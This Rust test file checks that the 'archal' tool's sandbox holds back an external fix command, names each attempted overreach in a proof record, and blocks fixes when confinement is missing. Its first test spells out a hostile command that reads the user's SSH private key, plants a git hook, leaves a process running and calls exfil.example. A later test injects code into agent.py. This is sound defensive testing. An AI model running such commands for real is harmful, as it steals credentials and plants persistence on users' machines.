//! Fixers that reach for more than the agent: each is held, named in the proof, and its fix is
//! proved or refused all the same.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

use archal_testkit::cli::TestEnv;
use serde_json::Value;

use super::attach::{again, job};
use super::{
    git, listing, only_folder, run_without_namespaces, run_without_namespaces_by, untouched_demo,
};

const RIGHT: &str = "python3 fix.py";

/// A server of this machine that says one word.
struct Listener {
    port: u16,
}

impl Listener {
    fn new() -> Self {
        let server = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = server.local_addr().expect("an address").port();
        // Whoever looks whether it listens connects and says nothing.
        std::thread::spawn(move || {
            for client in server.incoming() {
                let mut client = client.expect("a client");
                let mut asked = [0; 4];
                if client.read_exact(&mut asked).is_ok() {
                    let answer = b"HTTP/1.0 200 OK\r\n\r\nheard";
                    client.write_all(answer).expect("answered");
                }
            }
        });
        Self { port }
    }
}

/// Lets a command fix the failure under a mode of the sandbox; the job and the fixer's record.
fn fixed_by(world: &TestEnv, mode: &str, command: &str) -> (Value, Value) {
    again(world);
    let job = job(&world.run(&fix_arguments(command, mode)));
    (job, proof(world)["fixer"].clone())
}

/// The same where it comes to no proof.
fn blocked_by(world: &TestEnv, mode: &str, command: &str) -> Value {
    again(world);
    let job = job(&world.run(&fix_arguments(command, mode)));
    assert_eq!(job["status"], "fix_blocked", "{job}");
    job
}

/// `archal attach` to the fix by a command under a mode of the sandbox.
fn fix_arguments<'a>(command: &'a str, mode: &'a str) -> Vec<&'a str> {
    let mut arguments = vec!["attach", "demo/traces", "--repo", "demo", "--once"];
    arguments.extend(["--foreground", "--json", "--reproduce-runs", "2"]);
    arguments.extend(["--execution-policy", "fix", "--allow-external-execution"]);
    arguments.extend(["--fix-command", command, "--sandbox", mode]);
    arguments
}

fn proof(world: &TestEnv) -> Value {
    let fixes = only_folder(&world.repo().join("demo/.archal/attach/fixes"));
    let text = fs::read_to_string(fixes.join("proof.json")).expect("written");
    serde_json::from_str(&text).expect("JSON")
}

/// Whether the record names something by a rule.
#[track_caller]
fn assert_named(fixer: &Value, rule: &str, what: &str) {
    let refused = fixer["confined"]["refused"].as_array().expect("a list");
    let is_named = refused.iter().any(|refusal| {
        refusal["rule"] == rule && refusal["what"].as_str().expect("text").contains(what)
    });
    assert!(is_named, "{rule} {what}: {fixer}");
}

#[test]
fn a_fixer_that_cheats_is_held_and_each_attempt_is_named() {
    let (world, demo) = untouched_demo();
    let home = world.home();
    fs::create_dir_all(home.join(".ssh")).expect("writable");
    fs::write(home.join(".ssh/id_rsa"), "PRIVATE-KEY-OF-THE-USER").expect("writable");
    let before = listing(&demo);
    let outside = home.join("outside.txt");
    let command = format!(
        "echo x > {outside}; echo x > {demo}/.git/hooks/post-commit; cat {home}/.ssh/id_rsa; \
         (setsid sleep 1000 >/dev/null 2>&1 &); \
         python3 -c \"import urllib.request as u; u.urlopen('https://exfil.example/', timeout=5)\"; \
         {RIGHT}",
        outside = outside.display(),
        demo = demo.display(),
        home = home.display(),
    );
    let (job, fixer) = fixed_by(&world, "required", &command);
    assert_eq!(job["status"], "fixed", "{job}");
    assert!(
        fixer["sandbox"]
            .as_str()
            .expect("text")
            .starts_with("whole: "),
        "{fixer}"
    );
    assert_named(&fixer, "writes_outside", "outside.txt");
    assert_named(&fixer, "writes_outside", "post-commit");
    assert_named(&fixer, "credentials", "/.ssh/id_rsa");
    assert_named(&fixer, "survivors", "sleep");
    assert_named(&fixer, "network", "exfil.example");
    assert!(!outside.exists());
    assert_eq!(listing(&demo), before);
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let read = |name: &str| fs::read_to_string(fixes.join(name)).expect("written");
    assert!(!read("transcript.log").contains("PRIVATE-KEY"));
    let details = read("pr-details.md");
    for what in [
        "whole: mount namespace",
        "| called_out |",
        "exfil.example",
        "| read_credentials |",
        "/.ssh/id_rsa",
        "| wrote_outside |",
        "| left_running |",
    ] {
        assert!(details.contains(what), "{what}: {details}");
    }
}

#[test]
fn a_fixer_reaches_the_clones_and_the_servers_of_this_machine_that_it_is_told() {
    let (mut world, demo) = untouched_demo();
    let server = Listener::new();
    let address = format!("127.0.0.1:{}", server.port);
    world.set("MODEL_BASE_URL", format!("http://{address}/v1"));
    let config = fs::read_to_string(demo.join(".archal.json")).expect("readable");
    let mut config: Value = serde_json::from_str(&config).expect("JSON");
    config["workspace"]["env"] = serde_json::json!(["MODEL_BASE_URL"]);
    world.write("demo/.archal.json", &config.to_string());
    git(
        &world,
        "demo",
        &["commit", "--quiet", "--all", "-m", "model"],
    );
    let command = format!(
        "python3 - <<'X'\nimport os, urllib.request as u\n\
         print('model said', u.urlopen(os.environ['MODEL_BASE_URL']).read())\n\
         ask = u.Request(os.environ['ARCHAL_GITHUB_REST_URL'] + '/user', headers={{'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}})\n\
         print('clone said', u.urlopen(ask).status)\nX\n{RIGHT}"
    );
    let (job, fixer) = fixed_by(&world, "required", &command);
    assert_eq!(job["status"], "fixed", "{job}");
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let said = fs::read_to_string(fixes.join("transcript.log")).expect("written");
    assert!(
        said.contains("model said b'heard'") && said.contains("clone said 200"),
        "{said}"
    );
    let allowed = fixer["confined"]["allowed"].to_string();
    assert!(allowed.contains(&address), "{allowed}");
    assert_eq!(
        fixer["confined"]["refused"],
        serde_json::json!([]),
        "{fixer}"
    );
}

#[test]
fn the_mode_decides_what_is_recorded() {
    let (world, demo) = untouched_demo();
    let (job, fixer) = fixed_by(&world, "off", RIGHT);
    assert_eq!(
        (&job["status"], &fixer["sandbox"]),
        (&"fixed".into(), &"off".into())
    );
    assert_eq!(fixer["confined"], Value::Null);
    world.write(
        "demo/.archal.json",
        r#"{"agent": {"command": "python3", "args": ["agent.py"]}, "scenarios": ["archal"],
            "workspace": {"setup": "echo x > set-up.txt; echo x > /etc/archal-set-up || true"},
            "attach": {"validationCommand": "test -e set-up.txt && ! touch /etc/archal-validated"}}"#,
    );
    git(
        &world,
        "demo",
        &["commit", "--quiet", "--all", "-m", "set-up"],
    );
    let (job, fixer) = fixed_by(&world, "best-effort", RIGHT);
    assert_eq!(job["status"], "fixed", "{job}");
    assert!(
        fixer["sandbox"]
            .as_str()
            .expect("text")
            .starts_with("whole: "),
        "{fixer}"
    );
    let proof = proof(&world);
    let validation = &proof["validation"]["confined"];
    assert_eq!(validation["files"], "mount namespace", "{proof}");
    assert_eq!(validation["network"], "open", "{proof}");
    let set_up = &proof["setUp"];
    assert_eq!(set_up["confined"]["files"], "mount namespace", "{proof}");
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let details = fs::read_to_string(fixes.join("pr-details.md")).expect("written");
    let told = format!(
        "| sandbox of the set-up command | {} |",
        set_up["sandbox"].as_str().expect("text")
    );
    assert!(
        told.contains("whole: ") && details.contains(&told),
        "{told} {details}"
    );
    assert!(!Path::new("/etc/archal-set-up").exists());
    assert!(!Path::new("/etc/archal-validated").exists());
    assert!(demo.join(".archal").exists());
}

#[test]
fn without_namespaces_the_fixer_is_held_by_landlock_and_the_record_says_so() {
    let (world, demo) = untouched_demo();
    again(&world);
    let outside = world.home().join("outside.txt");
    let command = format!("echo x > {}; {RIGHT}", outside.display());
    let output = run_without_namespaces(&world, &fix_arguments(&command, "best-effort"));
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        said.contains("\"fixed\""),
        "{said}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let fixer = proof(&world)["fixer"].clone();
    let confined = &fixer["confined"];
    assert!(!outside.exists(), "{fixer}");
    // A kernel without Landlock says so instead.
    match confined["files"].as_str() {
        Some(files) => {
            assert_eq!(
                (files, &confined["network"]),
                ("landlock", &"landlock".into())
            );
            assert_named(&fixer, "writes_outside", "outside.txt");
        }
        None => assert!(
            confined["missing"].to_string().contains("files: "),
            "{fixer}"
        ),
    }
    assert!(demo.exists());
}

/// Runs archal as a machine without namespaces and without Landlock would: their system calls are answered as by
/// a kernel that has neither.
pub(super) const WITHOUT_LANDLOCK: &str = "
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
# Load the number of the call; 444 to 446 are Landlock's; ENOSYS, else allowed.
program = [(0x20, 0, 0, 0), (0x35, 0, 2, 444), (0x25, 1, 0, 446), (0x06, 0, 0, 0x50000 | 38), (0x06, 0, 0, 0x7fff0000)]
code = ctypes.create_string_buffer(b''.join(struct.pack('HBBI', *line) for line in program))
class Program(ctypes.Structure):
    _fields_ = [('length', ctypes.c_ushort), ('filter', ctypes.c_void_p)]
filter = Program(len(program), ctypes.addressof(code))
assert libc.prctl(38, 1, 0, 0, 0) == 0
assert libc.prctl(22, 2, ctypes.byref(filter), 0, 0) == 0, ctypes.get_errno()
os.execv(sys.argv[1], sys.argv[1:])
";

#[test]
fn what_is_required_and_not_to_be_had_blocks_the_fix_and_names_what_is_missing() {
    let (world, demo) = untouched_demo();
    let fixed_there = |mode: &str| {
        again(&world);
        let python = ["python3", "-c", WITHOUT_LANDLOCK];
        let output = run_without_namespaces_by(&world, &python, &fix_arguments(RIGHT, mode));
        let said = String::from_utf8_lossy(&output.stdout);
        let document: Value = serde_json::from_str(&said).unwrap_or_else(|error| {
            let stderr = String::from_utf8_lossy(&output.stderr);
            panic!("{error}: {said}{stderr}")
        });
        (output.status.code(), document["jobs"][0].clone())
    };
    let (code, blocked) = fixed_there("required");
    assert_eq!(blocked["status"], "fix_blocked", "{blocked}");
    assert_eq!(blocked["reasonCode"], "sandbox", "{blocked}");
    assert_eq!(code, Some(1), "{blocked}");
    let reason = blocked["reason"].as_str().expect("text");
    for part in ["files: ", "network: ", "--sandbox best-effort"] {
        assert!(reason.contains(part), "{part}: {reason}");
    }
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let status = fs::read_to_string(fixes.join("status.json")).expect("written");
    let status: Value = serde_json::from_str(&status).expect("JSON");
    assert_eq!(status["missing"][0], reason, "{status}");

    // As far as the machine can is not far, and that is what is written.
    let (_, fixed) = fixed_there("best-effort");
    assert_eq!(fixed["status"], "fixed", "{fixed}");
    let fixer = proof(&world)["fixer"].clone();
    let sandbox = fixer["sandbox"].as_str().expect("text");
    assert!(
        sandbox.starts_with("in part: ") && sandbox.contains("; missing: "),
        "{sandbox}"
    );
    let details = fs::read_to_string(fixes.join("pr-details.md")).expect("written");
    assert!(details.contains(sandbox), "{sandbox}: {details}");
}

#[test]
fn credentials_beside_the_workspace_cannot_be_hidden_and_that_is_told() {
    let (mut world, _) = untouched_demo();
    let home = world.home().display().to_string();
    world.set("GH_CONFIG_DIR", &home);
    let job = blocked_by(&world, "required", RIGHT);
    let reason = job["reason"].as_str().expect("text");
    assert!(
        reason.contains("credentials: $TEST_ENV/home cannot be hidden"),
        "{reason}"
    );
    let mut asks = vec!["attach", "demo/traces", "--repo", "demo", "--check"];
    asks.extend(&fix_arguments(RIGHT, "required")[9..]);
    let output = world.run(&asks);
    assert_eq!(output.code, Some(3), "{output}");
    let told = "credentials: $TEST_ENV/home cannot be hidden";
    assert!(output.stdout.contains(told), "{output}");
}

#[test]
fn a_fixer_reaches_the_hosts_that_the_configuration_names_and_no_others() {
    let (world, demo) = untouched_demo();
    let (named, other) = (Listener::new(), Listener::new());
    let config = fs::read_to_string(demo.join(".archal.json")).expect("readable");
    let mut config: Value = serde_json::from_str(&config).expect("JSON");
    config["fixer"] = serde_json::json!({ "hosts": [format!("localhost:{}", named.port)] });
    world.write("demo/.archal.json", &config.to_string());
    git(
        &world,
        "demo",
        &["commit", "--quiet", "--all", "-m", "hosts"],
    );
    let command = format!(
        "python3 - <<'X'\nimport urllib.request as u\n\
         for url in ['http://127.0.0.1:{}/', 'http://127.0.0.1:{}/', 'https://api.openai.com/']:\n\
         \x20 try: print('reached', u.urlopen(url, timeout=5).read())\n\
         \x20 except OSError as e: print('refused', url)\nX\n{RIGHT}",
        named.port, other.port
    );
    let (job, fixer) = fixed_by(&world, "required", &command);
    assert_eq!(job["status"], "fixed", "{job}");
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let said = fs::read_to_string(fixes.join("transcript.log")).expect("written");
    assert!(said.contains("reached b'heard'"), "{said}");
    let refused = format!("refused http://127.0.0.1:{}/", other.port);
    assert!(said.contains(&refused), "{said}");
    // A model's host that is let through where nothing is said.
    assert_named(&fixer, "network", "api.openai.com");
    let allowed = serde_json::json!([format!("127.0.0.1:{}", named.port)]);
    assert_eq!(fixer["confined"]["allowed"], allowed, "{fixer}");
}

#[test]
fn what_a_fix_brought_into_the_agent_is_confined_in_the_proof() {
    let (world, demo) = untouched_demo();
    git(&world, "demo", &["config", "archal.told", "tell-tale"]);
    let planted = world.home().join("planted");
    let command = format!(
        "cat {}; {RIGHT}; (printf 'try: open(\"{}\", \"w\").write(\"x\")\\nexcept OSError: pass\\n'; \
         cat agent.py) > new.py; mv new.py agent.py",
        demo.join(".git/config").display(),
        planted.display(),
    );
    let (job, _) = fixed_by(&world, "best-effort", &command);
    assert_eq!(job["status"], "fixed", "{job}");
    assert!(!planted.exists(), "the agent wrote into the home");
    let fixes = only_folder(&demo.join(".archal/attach/fixes"));
    let said = fs::read_to_string(fixes.join("transcript.log")).expect("written");
    assert!(!said.contains("tell-tale"), "{said}");
    let patch = fs::read_to_string(fixes.join("repo.patch")).expect("written");
    assert!(patch.contains("planted"), "{patch}");
}
